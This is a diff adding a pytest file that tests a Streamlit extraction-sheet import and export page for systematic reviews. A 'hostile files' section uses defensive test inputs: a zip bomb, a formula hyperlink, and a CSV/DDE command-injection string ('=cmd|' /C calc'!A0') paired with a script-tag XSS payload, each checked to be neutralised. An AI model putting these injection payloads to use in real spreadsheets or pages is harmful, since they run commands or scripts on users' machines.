@@ -1,0 +1,284 @@
+"""The page of extraction sheets: everything is shown and corrected before it is stored, and text stays text."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+from collections.abc import Callable
+from typing import Any
+
+import openpyxl
+import pytest
+from streamlit.testing.v1 import AppTest
+
+from tests.ui_review import add_records, add_result, add_study, extract, settled_studies
+from workbench.store import Store
+
+Opener = Callable[..., Store]
+SHEET = (
+    "study,year,intervention,control,target,outcome,time,nEXP,meanEXP,sdEXP,nCON,meanCON,sdCON,rob\n"
+    "Lind,2020,10 Hz rTMS,sham coil,left M1,pain NRS,end of treatment,20,4.0,1.5,19,5.5,1.6,1\n"
+    "Roe,2021,10 Hz rTMS,herbal tea,left DLPFC,pain NRS,end of treatment,12,3.0,1.0,12,4.0,1.1,2\n"
+    "Poe,2022,10 Hz rTMS,sham coil,left M1,pain NRS,end of treatment,twelve,3.0,1.0,12,4.0,1.1,2\n"
+)
+
+
+def page(view: str = "Import", reviewer: str = "ada") -> AppTest:
+    at = AppTest.from_string(
+        "from workbench.ui import faults\nfrom workbench.ui.pages import extraction_sheets\n"
+        "faults.guarded(extraction_sheets.page)()",
+        default_timeout=60,
+    )
+    at.query_params["reviewer"] = reviewer
+    at.session_state["sheets:view"] = view
+    return at.run()
+
+
+def upload(at: AppTest, name: str, body: str | bytes) -> AppTest:
+    content = body.encode() if isinstance(body, str) else body
+    at = at.file_uploader[0].set_value((name, content, "application/octet-stream")).run()
+    assert not at.exception
+    return at
+
+
+def shown(at: AppTest) -> str:
+    return "\n".join(str(element.proto.body) for element in at.get("html"))
+
+
+def said(at: AppTest) -> str:
+    return " ".join(str(element.value) for element in at.error)
+
+
+def labelled(elements: Any, start: str) -> Any:
+    found = [element for element in elements if element.label.startswith(start)]
+    assert found, f"none begins with {start!r} among {[element.label for element in elements]}"
+    return found[0]
+
+
+def workbook(rows: list[list[Any]], title: str = "data") -> bytes:
+    book = openpyxl.Workbook()
+    sheet = book.active
+    assert sheet is not None
+    sheet.title = title
+    for row in rows:
+        sheet.append(row)
+    target = io.BytesIO()
+    book.save(target)
+    return target.getvalue()
+
+
+def with_part(body: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
+    target = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(body)) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
+        for item in old.infolist():
+            content = old.read(item)
+            new.writestr(item.filename, change(content) if item.filename == part else content)
+    return target.getvalue()
+
+
+ROWS: list[list[Any]] = [line.split(",") for line in SHEET.splitlines()]
+
+
+# ---------------------------------------------------------------------------------------------------------- the import
+
+
+def test_without_a_sheet_the_page_says_what_to_do(review: Opener) -> None:
+    review()
+    at = page()
+    assert not at.exception
+    assert "one row for each result, or for each arm" in shown(at)
+    at = page("Earlier imports")
+    assert "No sheet was imported yet" in shown(at)
+    at = page("Export")
+    assert "Nothing is extracted yet" in shown(at)
+
+
+def test_a_sheet_is_shown_corrected_and_imported_and_can_be_taken_back(review: Opener) -> None:
+    store = review()
+    at = upload(page(), "ours.csv", SHEET)
+    assert labelled(at.multiselect, "Column H means").value == ["n_active"]
+    assert labelled(at.multiselect, "Column N means").value == []
+    assert "herbal tea" in shown(at)  # by its cell, among the problems
+    assert "“twelve” is not a number" in shown(at)
+    word = labelled(at.selectbox, "“herbal tea”")
+    word.set_value("no sham: another treatment").run()
+    labelled(at.selectbox, "On this scale").set_value("lower is better").run()
+    at = labelled(at.multiselect, "Indications this result is about").set_value(["neuropathic_pain"]).run()
+    at = labelled(at.selectbox, "Main indication").set_value("neuropathic_pain").run()
+    assert "is none of the options" not in shown(at)
+    assert "SMD" in shown(at)
+    assert store.studies() == ()  # nothing is stored before it is confirmed
+    labelled(at.radio, "Record as").set_value("final")
+    at = labelled(at.button, "Import 3 results").click().run()
+    assert not at.exception
+    assert "Imported ours.csv" in shown(at)
+    assert {study.label for study in store.studies()} == {"Lind 2020", "Roe 2021", "Poe 2022"}
+    states = {item.answers["study_label"]: item.state for item in store.extractions()}
+    assert states == {"Lind 2020": "final", "Roe 2021": "final", "Poe 2022": "draft"}
+    assert {item.extractor for item in store.extractions()} == {"ada"}
+    at = page("Earlier imports")
+    assert "ours.csv" in shown(at)
+    (kept,) = store.sheet_imports()
+    labelled(at.selectbox, "Import").set_value(kept.id)
+    labelled(at.text_input, "Why").set_value("the wrong sheet")
+    at = labelled(at.button, "Take it back").click().run()
+    assert store.studies() == ()
+    assert "taken back by Ada Example: the wrong sheet" in shown(at)
+
+
+def test_what_was_said_of_columns_is_remembered_for_the_next_sheet(review: Opener) -> None:
+    review()
+    at = upload(page(), "first.csv", SHEET)
+    at = labelled(at.multiselect, "Column N means").set_value(["notes"]).run()
+    assert labelled(at.multiselect, "Column N means").value == ["notes"]
+    assert "as you said" in shown(at)
+    labelled(at.button, "Import 3 results").click().run()
+    at = upload(page(reviewer="ben"), "second.csv", SHEET.replace("Lind", "Lund"))
+    assert labelled(at.multiselect, "Column N means").value == ["notes"]
+    assert "as remembered for these headings" in shown(at)
+
+
+def test_a_column_taken_away_is_counted_as_not_read(review: Opener) -> None:
+    review()
+    at = upload(page(), "first.csv", SHEET)
+    at = labelled(at.multiselect, "Column I means").set_value([]).run()
+    assert "In columns that are not read" in shown(at)
+    assert "not reported: mean active" in shown(at)
+
+
+def test_only_whoever_imported_or_a_lead_can_take_an_import_back(review: Opener) -> None:
+    store = review()
+    at = upload(page(reviewer="ben"), "ours.csv", SHEET)
+    labelled(at.button, "Import 3 results").click().run()
+    assert len(store.sheet_imports()) == 1
+    assert not [button for button in page("Earlier imports", "cleo").button if button.label == "Take it back"]
+    assert [button for button in page("Earlier imports", "ada").button if button.label == "Take it back"]  # leads
+
+
+def test_a_study_of_the_review_is_found_and_can_be_chosen(review: Opener) -> None:
+    store = review()
+    add_records(store, (1, 2))
+    lind, other = add_study(store, 1, "Lind 2020"), add_study(store, 2, "Somebody 2019")
+    at = upload(page(), "ours.csv", SHEET)
+    assert labelled(at.selectbox, "“Lind 2020” is").value == lind
+    labelled(at.selectbox, "“Roe 2021” is").set_value(other)
+    labelled(at.button, "Import 3 results").click().run()
+    assert {slot.study for slot in store.results()} >= {lind, other}
+    assert len(store.studies()) == 3  # Poe alone is new
+
+
+# -------------------------------------------------------------------------------------------------------------- export
+
+
+def test_the_export_makes_every_file_and_keeps_back_what_others_answered(review: Opener) -> None:
+    store = review()
+    settled_studies(store, ("Doe 2020",))
+    add_records(store, (2,))
+    study = add_study(store, 2, "Roe 2021")
+    extract(store, study, add_result(store, study), "ben", mean_active=3.25)
+    at = page("Export", "ada")
+    for box in at.checkbox:
+        box.set_value(True)
+    at = labelled(at.button, "Make the files").click().run()
+    assert not at.exception
+    files, hidden, results = at.session_state["sheets:made"]
+    assert set(files) == {
+        "extractions.csv",
+        "comparisons.csv",
+        "extractions.xlsx",
+        "extractions.json",
+        "metapsy.csv",
+        "metapsy_dictionary.csv",
+    }
+    assert (hidden, results) == (1, 2)
+    assert not [name for name, body in files.items() if b"3.25" in body]  # ben's is not ada's to see yet
+    assert "1 of 2 results" in " ".join(str(element.value) for element in at.info)
+    assert len(at.get("download_button")) == 6
+
+
+# ------------------------------------------------------------------------------------------------------- hostile files
+
+HTML = "<html><body><table><tr><td>study</td></tr></table></body></html>"
+
+
+@pytest.mark.parametrize(
+    ("name", "body", "message"),
+    [
+        ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old Excel file"),
+        ("page.csv", HTML.encode(), "is a web page"),
+    ],
+)
+def test_what_is_no_sheet_is_refused_in_words(review: Opener, name: str, body: bytes, message: str) -> None:
+    store = review()
+    at = upload(page(), name, body)
+    assert message in said(at)
+    assert not at.multiselect
+    assert store.sheet_imports() == ()
+
+
+def test_a_bomb_is_not_unpacked(review: Opener) -> None:
+    review()
+    huge = b"<worksheet>" + b"<row/>" * 5_000_000
+    body = with_part(workbook(ROWS), "xl/worksheets/sheet1.xml", lambda _: huge)
+    at = upload(page(), "bomb.xlsx", body)
+    assert "times its size" in said(at)
+
+
+def test_a_million_empty_rows_are_passed_over(review: Opener) -> None:
+    review()
+    rows = b"".join(b'<row r="%d"/>' % number for number in range(10, 1_000_010))
+    body = with_part(
+        workbook(ROWS), "xl/worksheets/sheet1.xml", lambda old: old.replace(b"</sheetData>", rows + b"</sheetData>")
+    )
+    at = upload(page(), "long.xlsx", body)
+    assert "1,000,000 rows without content were passed over" in shown(at)
+    assert labelled(at.button, "Import 3 results")
+
+
+def test_formulas_give_their_kept_value_or_say_that_there_is_none(review: Opener) -> None:
+    review()
+    rows = [list(row) for row in ROWS]
+    rows[1][8] = '=HYPERLINK("http://example.org/?x="&A2, "4.0")'
+    at = upload(page(), "formula.xlsx", workbook(rows))
+    assert "holds a formula that was never computed" in shown(at)
+    assert "<a " not in shown(at)
+
+
+def test_text_of_a_sheet_is_never_markup_and_never_a_formula(review: Opener) -> None:
+    store = review()
+    nasty = "=cmd|' /C calc'!A0 <script>alert(1)</script> **bold** $x$\x07"
+    body = SHEET.replace("Lind", f'"{nasty}"').replace("sham coil", f'"{nasty}"', 1)
+    at = upload(page(), "nasty.csv", body)
+    assert "<script>" not in shown(at)
+    assert "&lt;script&gt;" in shown(at)
+    assert not any("<script>" in element.label for element in at.selectbox)
+    labelled(at.button, "Import 3 results").click().run()
+    at = page("Export")
+    at = labelled(at.button, "Make the files").click().run()
+    files = at.session_state["sheets:made"][0]
+    table = files["extractions.csv"].decode("utf-8-sig")
+    assert "'=cmd" in table
+    assert not any(cell.startswith("=") for line in table.splitlines() for cell in line.split(","))
+    assert store.extractions()[0].answers["study_label"].startswith("=cmd")
+
+
+def test_very_long_cells_are_cut_and_said_to_be(review: Opener) -> None:
+    review()
+    at = upload(page(), "long.csv", SHEET.replace("herbal tea", "x" * 50_000))
+    assert "is very long; its end was cut off" in shown(at)
+
+
+def test_several_sheets_of_a_workbook_can_be_chosen(review: Opener) -> None:
+    review()
+    book = openpyxl.load_workbook(io.BytesIO(workbook(ROWS, "numbers")))
+    other = book.create_sheet("references")
+    other.append(["author", "title"])
+    other.append(["Lind", "A trial"])
+    target = io.BytesIO()
+    book.save(target)
+    at = upload(page(), "two.xlsx", target.getvalue())
+    chooser = labelled(at.selectbox, "Sheet")
+    assert chooser.value == "numbers"
+    at = chooser.set_value("references").run()
+    assert not at.exception
+    assert labelled(at.multiselect, "Column A means").value == ["study_label"]
